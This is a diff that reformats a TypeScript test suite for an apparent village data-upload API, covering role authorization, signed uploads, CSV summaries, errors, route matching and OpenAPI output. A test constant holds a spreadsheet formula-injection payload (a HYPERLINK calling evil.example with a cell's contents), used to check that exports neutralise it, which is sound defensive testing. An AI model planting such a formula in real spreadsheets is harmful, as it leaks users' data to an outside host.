@@ -18,11 +18,16 @@ import { Registry } from '../../shared/registry.ts';
 import type { UploadIntent, UploadRecord } from '../../shared/uploads.ts';
 import { MemoryTokens } from '../support/memory-tokens.ts';
 
-const UNITS = JSON.parse(readFileSync(new URL('../../config/units.json', import.meta.url), 'utf8')) as { units: { code: string; name: string }[] };
+const UNITS = JSON.parse(readFileSync(new URL('../../config/units.json', import.meta.url), 'utf8')) as {
+  units: { code: string; name: string }[];
+};
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")';
 
 function world(options: { evilUnit?: boolean } = {}) {
-  const registry = Registry.parse({ ...UNITS, units: UNITS.units.map((u) => (options.evilUnit && u.code === 'V02' ? { ...u, name: EVIL } : u)) });
+  const registry = Registry.parse({
+    ...UNITS,
+    units: UNITS.units.map((u) => (options.evilUnit && u.code === 'V02' ? { ...u, name: EVIL } : u)),
+  });
   const intents: UploadIntent[] = [];
   const uploads = new Map<string, UploadRecord>();
   const objects = new Map<string, Uint8Array>();
@@ -79,30 +84,51 @@ const SUMMARY = {
 
 /** The cells of a CSV (quotes removed) that Excel would read as a formula. */
 function formulaCells(csv: string): string[] {
-  const cells = csv.replace(/^\uFEFF/, '').split('\r\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
-  return cells.map((c) => c.replace(/,$/, '').replace(/^"(.*)"$/s, '$1').replace(/""/g, '"')).filter((c) => /^[=+\-@\t\r]/.test(c));
+  const cells = csv
+    .replace(/^\uFEFF/, '')
+    .split('\r\n')
+    .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
+  return cells
+    .map((c) =>
+      c
+        .replace(/,$/, '')
+        .replace(/^"(.*)"$/s, '$1')
+        .replace(/""/g, '"'),
+    )
+    .filter((c) => /^[=+\-@\t\r]/.test(c));
 }
 
 describe('authorization per route', () => {
-  const PARAMS: Record<string, string> = { period: '2025-03', month: '2025-03', year: '2025', unit: 'V03', uploadId: 'abcdefgh-0001', tokenId: '0123456789abcdef' };
+  const PARAMS: Record<string, string> = {
+    period: '2025-03',
+    month: '2025-03',
+    year: '2025',
+    unit: 'V03',
+    uploadId: 'abcdefgh-0001',
+    tokenId: '0123456789abcdef',
+  };
 
-  it.each(ROUTES.filter((r) => r.auth !== 'public').flatMap((route) => ROLES.filter((role) => !route.roles.includes(role)).map((role) => [routeKey(route), role, route] as const)))(
-    '%s refuses role %s with 403 ROLE_FORBIDDEN and a Chinese message',
-    async (_key, role, route: Route) => {
-      // Prepare
-      const { deps, intents } = world();
-      const principal: Principal = role === 'village' ? { role, unit: 'V03' } : { role };
-      const pathParameters = Object.fromEntries([...route.path.matchAll(/\{(\w+)\}/g)].map((m) => [m[1]!, PARAMS[m[1]!]!]));
+  it.each(
+    ROUTES.filter((r) => r.auth !== 'public').flatMap((route) =>
+      ROLES.filter((role) => !route.roles.includes(role)).map((role) => [routeKey(route), role, route] as const),
+    ),
+  )('%s refuses role %s with 403 ROLE_FORBIDDEN and a Chinese message', async (_key, role, route: Route) => {
+    // Prepare
+    const { deps, intents } = world();
+    const principal: Principal = role === 'village' ? { role, unit: 'V03' } : { role };
+    const pathParameters = Object.fromEntries([...route.path.matchAll(/\{(\w+)\}/g)].map((m) => [m[1]!, PARAMS[m[1]!]!]));
 
-      // Act
-      const response = await handleRequest({ route, pathParameters, query: {}, headers: {}, body: '{"format":"csv","period":"2025-03"}', caller: as(principal) }, deps);
+    // Act
+    const response = await handleRequest(
+      { route, pathParameters, query: {}, headers: {}, body: '{"format":"csv","period":"2025-03"}', caller: as(principal) },
+      deps,
+    );
 
-      // Assess
-      expect(response.status).toBe(403);
-      expect(JSON.parse(response.body)).toMatchObject({ code: 'ROLE_FORBIDDEN', message: expect.stringMatching(/凭证不能/) });
-      expect(intents).toEqual([]);
-    },
-  );
+    // Assess
+    expect(response.status).toBe(403);
+    expect(JSON.parse(response.body)).toMatchObject({ code: 'ROLE_FORBIDDEN', message: expect.stringMatching(/凭证不能/) });
+    expect(intents).toEqual([]);
+  });
 
   it('answers a refused token with 401, its code and message, and no token with TOKEN_MISSING', async () => {
     const { deps } = world();
@@ -123,7 +149,8 @@ describe('authorization per route', () => {
 });
 
 describe('POST /v1/uploads', () => {
-  const create = (deps: ApiDeps, caller: Caller, body: unknown) => handleRequest(request('createUpload', caller, { body: typeof body === 'string' ? body : JSON.stringify(body) }), deps);
+  const create = (deps: ApiDeps, caller: Caller, body: unknown) =>
+    handleRequest(request('createUpload', caller, { body: typeof body === 'string' ? body : JSON.stringify(body) }), deps);
 
   it('signs a form for the village’s own unit and month, then records the intent', async () => {
     // Prepare
@@ -137,7 +164,15 @@ describe('POST /v1/uploads', () => {
     const body = JSON.parse(response.body) as { uploadId: string; key: string; maxBytes: number };
     expect(body.key).toBe(`incoming/V03/2025-03/${body.uploadId}.csv`);
     expect(presigned).toEqual([{ key: body.key, contentType: 'text/csv', maxBytes: 5 * 1024 * 1024, expiresInSeconds: 900 }]);
-    expect(intents).toEqual([expect.objectContaining({ uploadId: body.uploadId, uploader: { role: 'village', unit: 'V03' }, unit: 'V03', period: '2025-03', ext: 'csv' })]);
+    expect(intents).toEqual([
+      expect.objectContaining({
+        uploadId: body.uploadId,
+        uploader: { role: 'village', unit: 'V03' },
+        unit: 'V03',
+        period: '2025-03',
+        ext: 'csv',
+      }),
+    ]);
   });
 
   it.each([
@@ -173,7 +208,10 @@ describe('GET /v1/summaries', () => {
     published(SUMMARY);
 
     // Act
-    const response = await handleRequest(request('monthlySummary', DISTRICT, { pathParameters: { month: '2025-03' }, query: { format: 'csv' } }), deps);
+    const response = await handleRequest(
+      request('monthlySummary', DISTRICT, { pathParameters: { month: '2025-03' }, query: { format: 'csv' } }),
+      deps,
+    );
 
     // Assess
     expect(response.status).toBe(200);
@@ -185,7 +223,10 @@ describe('GET /v1/summaries', () => {
 
   it('neutralises the same name where it stands alone in a cell: the wide template', async () => {
     const { deps } = world({ evilUnit: true });
-    const response = await handleRequest(request('template', TOWN, { pathParameters: { period: '2025-03' }, query: { layout: 'wide' } }), deps);
+    const response = await handleRequest(
+      request('template', TOWN, { pathParameters: { period: '2025-03' }, query: { layout: 'wide' } }),
+      deps,
+    );
     expect(response.status).toBe(200);
     expect(response.body).toContain(`V02,"'${EVIL.replace(/"/g, '""')}",2025-03`);
     expect(formulaCells(response.body)).toEqual([]);
@@ -194,7 +235,8 @@ describe('GET /v1/summaries', () => {
   it('gives an ETag of the bytes, and 304 for If-None-Match with it (strong, weak or *)', async () => {
     const { deps, published } = world();
     published(SUMMARY);
-    const get = (headers: Record<string, string> = {}) => handleRequest(request('monthlySummary', TOWN, { pathParameters: { month: '2025-03' }, headers }), deps);
+    const get = (headers: Record<string, string> = {}) =>
+      handleRequest(request('monthlySummary', TOWN, { pathParameters: { month: '2025-03' }, headers }), deps);
     const first = await get();
     const etag = first.headers['etag']!;
     expect(first.status).toBe(200);
@@ -251,7 +293,14 @@ describe('errors', () => {
 
   it('maps a DynamoDB throttling error to 429 with Retry-After', async () => {
     const { deps } = world();
-    const throttled: ApiDeps = { ...deps, ledger: { ...deps.ledger, currentOfMonth: async () => Promise.reject(Object.assign(new Error('slow down'), { name: 'ProvisionedThroughputExceededException' })) } };
+    const throttled: ApiDeps = {
+      ...deps,
+      ledger: {
+        ...deps.ledger,
+        currentOfMonth: async () =>
+          Promise.reject(Object.assign(new Error('slow down'), { name: 'ProvisionedThroughputExceededException' })),
+      },
+    };
     const response = await handleRequest(request('completeness', TOWN, { pathParameters: { month: '2025-03' } }), throttled);
     expect(response.status).toBe(429);
     expect(response.headers['retry-after']).toBe('2');
@@ -261,7 +310,10 @@ describe('errors', () => {
 
 describe('routes', () => {
   it('matches paths as API Gateway does, decoding parameters, and nothing with an encoded slash', () => {
-    expect(matchRoute('GET', '/v1/units/V03/submissions/2025-03')).toMatchObject({ route: { name: 'submissions' }, pathParameters: { unit: 'V03', month: '2025-03' } });
+    expect(matchRoute('GET', '/v1/units/V03/submissions/2025-03')).toMatchObject({
+      route: { name: 'submissions' },
+      pathParameters: { unit: 'V03', month: '2025-03' },
+    });
     expect(matchRoute('GET', '/v1/uploads/..%2F..%2Fx')?.pathParameters['uploadId']).toBe('../../x');
     expect(matchRoute('GET', '/v1/uploads/a/b')).toBeUndefined();
     expect(matchRoute('PUT', '/v1/uploads')).toBeUndefined();
@@ -276,7 +328,11 @@ describe('routes', () => {
 
 describe('OpenAPI document', () => {
   it('describes every route with its method, parameters and the request schema from zod', () => {
-    const doc = openApiDocument(ROUTES) as { openapi: string; paths: Record<string, Record<string, { operationId: string; parameters?: { name: string }[] }>>; components: { schemas: Record<string, { properties?: Record<string, unknown>; additionalProperties?: unknown }> } };
+    const doc = openApiDocument(ROUTES) as {
+      openapi: string;
+      paths: Record<string, Record<string, { operationId: string; parameters?: { name: string }[] }>>;
+      components: { schemas: Record<string, { properties?: Record<string, unknown>; additionalProperties?: unknown }> };
+    };
     expect(doc.openapi).toBe('3.1.0');
     for (const route of ROUTES) {
       const op = doc.paths[route.path]?.[route.method.toLowerCase()];
